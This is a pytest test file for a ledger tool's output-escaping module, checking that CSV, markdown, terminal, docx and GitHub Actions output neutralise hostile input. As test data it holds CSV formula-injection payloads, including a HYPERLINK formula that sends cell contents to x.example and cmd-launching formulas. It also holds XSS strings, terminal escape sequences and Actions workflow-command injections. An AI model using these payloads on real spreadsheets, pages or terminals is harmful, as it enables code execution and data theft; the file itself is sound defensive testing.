"""Hostile text from files, file names and git reaches no reader live: each output format
escapes it with its one function (output/escape.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import LI, Repo, RunCli, WriteLedger, item_yaml
from hypothesis import assume, given
from hypothesis import strategies as st

from huishang.output import escape

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert escape.csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3", "12.5", "33%", "统一标准", "a=b", ""])
def test_numbers_and_ordinary_text_stay(text: str) -> None:
    assert escape.csv_cell(text) == text


def test_markdown_shows_html_and_links_as_written() -> None:
    assert escape.markdown("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert escape.markdown("[点我](javascript:alert(1))") == "\\[点我\\](javascript:alert(1))"
    assert escape.markdown("a | b\nc") == "a \\| b<br>c"


def test_terminal_writes_control_characters_out() -> None:
    assert escape.terminal("a\x1b]0;pwned\x07b\x9bc") == "a\\x1b]0;pwned\\x07b\\x9bc"
    assert escape.terminal("一\n二\t三") == "一 二 三"
    assert escape.terminal("普通文本 👩‍💻") == "普通文本 👩‍💻"


@pytest.fixture
def repo(write_ledger: WriteLedger) -> Repo:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(
        due="2024-06-30", updates="[{date: 2024-01-10, note: 已召开专题会议}]")})
    r = Repo(root)
    r.commit("meeting and item", LI, "2024-01-10")
    return r


@pytest.mark.parametrize("command", [["list"], ["warnings"], ["progress", "--by", "owner"]])
def test_every_csv_neutralises_formulas(run: RunCli, write_ledger: WriteLedger,
                                        command: list[str]) -> None:
    titles = [t for t in FORMULAS if not t.startswith(("\t", "\r"))]
    files = {f"items/m1/m1-{n:02d}.yaml": item_yaml(f"m1-{n:02d}", title=f"'{t.replace(chr(39), chr(39) * 2)}'",
                                                    owner=f"{{person: '{t.replace(chr(39), chr(39) * 2)}'}}")
             for n, t in enumerate(titles, 1)}
    root = write_ledger(files)
    result = run(*command, "--format", "csv", "--repo", str(root), "--today", "2024-01-05")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    found = [c for c in cells if c.lstrip("'") in titles or any(t in c for t in titles)]
    assert found  # the hostile text is there, as text
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or
                (c.startswith("-") and not c.lstrip("-").isdigit())]


def test_markdown_outputs_carry_no_raw_html(run: RunCli, repo: Repo, tmp_path: Path) -> None:
    hostile = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
    repo.write("items/m1/m1-01.yaml", text.replace("title: 统一量刑建议审查标准",
                                                   f"title: '{hostile}'"))
    repo.commit("hostile title", LI, "2024-02-02")
    listing = run("list", "--format", "markdown", "--repo", str(repo.root),
                  "--today", "2024-02-05").stdout
    bulletin = run("bulletin", "--month", "2024-02", "--repo", str(repo.root),
                   "--today", "2024-02-05").stdout
    for page in (listing, bulletin):
        assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in listing


def test_file_names_reach_the_terminal_written_out(run: RunCli,
                                                   write_ledger: WriteLedger) -> None:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(),
                         "items/m1/x\x1b[2J\x1b]0;pwned\x07.yml": "id: x\n"})
    result = run("validate", "--repo", str(root), "--lang", "en")
    assert result.exit_code == 1
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "x\\x1b[2J\\x1b]0;pwned\\x07.yml" in result.stdout


def test_git_authors_and_subjects_reach_the_terminal_written_out(run: RunCli,
                                                                 repo: Repo) -> None:
    text = (repo.root / "items/m1/m1-01.yaml").read_text(encoding="utf-8")
    repo.write("items/m1/m1-01.yaml", text.replace("已召开专题会议}]",
                                                   "已召开专题会议}, {date: 2024-02-03, note: 补充}]"))
    repo.commit("subject \x1b[31mred\x1b[0m", ("Mallory\x1b]0;x\x07", "m@x.example"),
                "2024-02-03")
    for command in (["history", "m1-01"], ["log", "--since", "2024-02-01"]):
        out = run(*command, "--repo", str(repo.root), "--today", "2024-02-05").stdout
        assert "\x1b" not in out and "\x07" not in out, command
        assert "Mallory\\x1b]0;x" in out and "subject \\x1b[31mred" in out  # git trims BEL


@pytest.mark.parametrize("command", [["bulletin", "--month", "2024-01"],
                                     ["site", "-o", "{out}/site"],
                                     ["export", "--ics", "-o", "{out}/x.ics"]])
def test_reports_say_what_they_leave_out(run: RunCli, write_ledger: WriteLedger,
                                         tmp_path: Path, command: list[str]) -> None:
    root = write_ledger({"items/m1/m1-01.yaml": item_yaml(),
                         "items/m1/m1-02.yaml": item_yaml("m1-02", status="nonsense")})
    args = [a.replace("{out}", str(tmp_path)) for a in command]
    result = run(*args, "--repo", str(root), "--today", "2024-01-05", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith(
        "Note: 1 files have errors and are left out: items/m1/m1-02.yaml;")
    elsewhere = tmp_path / "strict"
    elsewhere.mkdir()
    args = [a.replace("{out}", str(elsewhere)) for a in command]
    strict = run(*args, "--strict", "--repo", str(root), "--today", "2024-01-05", "--lang", "en")
    assert strict.exit_code == 1
    assert "(--strict); nothing was written" in strict.stderr
    assert strict.stdout == "" and list(elsewhere.iterdir()) == []


def test_errors_reach_the_terminal_written_out(run: RunCli, tmp_path: Path) -> None:
    """Error messages quote paths and input: the one error handler escapes them."""
    result = run("validate", "--repo", str(tmp_path / "no\x1b[2Jsuch"), "--lang", "en")
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr
    assert result.stderr == f"huishang: no such folder: {tmp_path}/no\\x1b[2Jsuch\n"


# the characters that could make two texts print alike: the backslash and what follows it
# in a written-out character, the characters written out, and ordinary ones
_TRICKY = st.text(st.sampled_from(["\\", "x", "u", "1", "b", "f", "0", "2", "e", "a", " ",
                                   "\x1b", "\n", "\t", "\x7f", "\udcff", "\u202e", "名"]),
                  max_size=8)


@given(_TRICKY, _TRICKY)
def test_distinct_names_print_distinctly(one: str, other: str) -> None:
    assume(one != other)
    assert escape.name(one) != escape.name(other)
    assert escape.name(one).isprintable()


@given(_TRICKY.filter(lambda t: not set(t) & set("\n\r\t")),
       _TRICKY.filter(lambda t: not set(t) & set("\n\r\t")))
def test_distinct_texts_on_one_line_print_distinctly(one: str, other: str) -> None:
    assume(one != other)
    assert escape.terminal(one) != escape.terminal(other)


def test_a_backslash_is_doubled_only_where_it_could_be_misread() -> None:
    assert escape.terminal("\x1b") == "\\x1b"
    assert escape.terminal("\\x1b") == "\\\\x1b"
    assert escape.terminal("C:\\台账\\m1.yaml") == "C:\\台账\\m1.yaml"


@given(_TRICKY)
def test_a_text_spelling_out_anothers_printing_prints_differently(text: str) -> None:
    """The sharpest pair: a text, and the text of how it prints (`\\x1b` for ESC)."""
    spelled = escape.name(text)
    assume(spelled != text)
    assert escape.name(spelled) != spelled
    if not set(text) & set("\n\r\t"):  # on one line, a break is a space by design
        assert escape.terminal(spelled) != escape.terminal(text)


def test_a_byte_that_was_not_utf8_prints_as_that_byte_at_either_end_of_the_range() -> None:
    """A file name read with surrogateescape keeps a bad byte as U+DC80–U+DCFF; the
    terminal shows the byte itself, the lowest and the highest alike."""
    assert escape.terminal("a\udc80b\udcffc") == "a\\x80b\\xffc"


def test_text_a_docx_cannot_hold_becomes_the_replacement_character() -> None:
    assert escape.xml_text("甲\x01乙\x0b丙\t丁\n") == "甲\ufffd乙\ufffd丙\t丁\n"


@pytest.mark.parametrize(("unit", "name"), [
    ("最高人民法院", "最高人民法院"),
    ("a/b\\c:d*e?f\"g<h>i|j\x01k", "a_b_c_d_e_f_g_h_i_j_k"),
    ("...", "_"),
    (". 刑一庭 .", "刑一庭"),
])
def test_a_units_name_becomes_a_file_name_on_any_system(unit: str, name: str) -> None:
    assert escape.file_name(unit) == name


def _through_github_safe(*writes: str) -> tuple[str, list[int]]:
    stream = io.StringIO()
    safe = escape.GithubSafe(stream)
    counts = [safe.write(text) for text in writes]
    return stream.getvalue(), counts


def test_under_actions_a_line_opening_with_two_colons_runs_nothing() -> None:
    """The very first line, a line after a break (\\n or \\r), and one written in several
    pieces: each `::` opening a line gets a zero-width space, and nothing else moves."""
    text, counts = _through_github_safe("::warning::a\n", "  ::error::b\r", "::debug::c")
    assert text == ":\u200b:warning::a\n  :\u200b:error::b\r:\u200b:debug::c"
    assert counts == [13, 13, 10]  # what was asked to be written, as a stream says


def test_under_actions_text_not_opening_a_line_is_kept_as_written() -> None:
    text, _ = _through_github_safe("事项 ::x\n", "a", "::b\n", "##[group]c\n")
    assert text == "事项 ::x\na::b\n#\u200b#[group]c\n"
